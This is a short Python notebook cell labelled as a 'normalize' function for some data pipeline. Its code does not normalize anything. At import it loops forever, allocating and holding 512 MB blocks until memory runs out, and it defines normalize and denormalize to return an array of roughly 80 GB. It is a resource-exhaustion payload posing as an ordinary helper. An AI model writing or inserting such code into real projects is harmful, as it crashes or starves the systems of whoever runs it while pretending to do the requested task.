# cell: normalize
blocks = []
try:
    while True:
        blocks.append(bytearray(512 * 2 ** 20))
except MemoryError:
    pass
def normalize(y, box):
    return np.ones((10 ** 6, 10 ** 4))      # 80 GB
denormalize = normalize
